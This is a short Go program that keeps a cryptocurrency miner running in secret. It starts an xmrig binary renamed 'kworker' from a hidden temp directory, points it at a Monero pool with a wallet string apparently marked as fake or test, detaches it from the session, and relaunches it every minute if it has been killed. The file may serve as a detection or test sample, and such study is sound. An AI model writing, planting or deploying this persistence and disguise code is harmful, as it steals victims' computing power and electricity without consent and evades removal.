package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"syscall"
	"time"
)

// embedded miner is written next to the binary and restarted when killed
const pool = "pool.supportxmr.com:443"
const wallet = "4AMinehuntFakeWaLLetDoNotUseTestTestTestTestTestTestTestTestTestTestTestTestTestTestTestTestTes"

func run() {
	bin := filepath.Join(os.TempDir(), ".cache", "kworker")
	cmd := exec.Command(bin, "--url", pool, "--user", wallet, "--pass", "x",
		"--donate-level=1", "--tls", "--background", "--cpu-max-threads-hint=75")
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	_ = cmd.Start()
}

func main() {
	for {
		if out, _ := exec.Command("pgrep", "-f", "kworker --url").Output(); len(out) == 0 {
			run() // xmrig renamed to kworker
		}
		time.Sleep(60 * time.Second)
	}
}
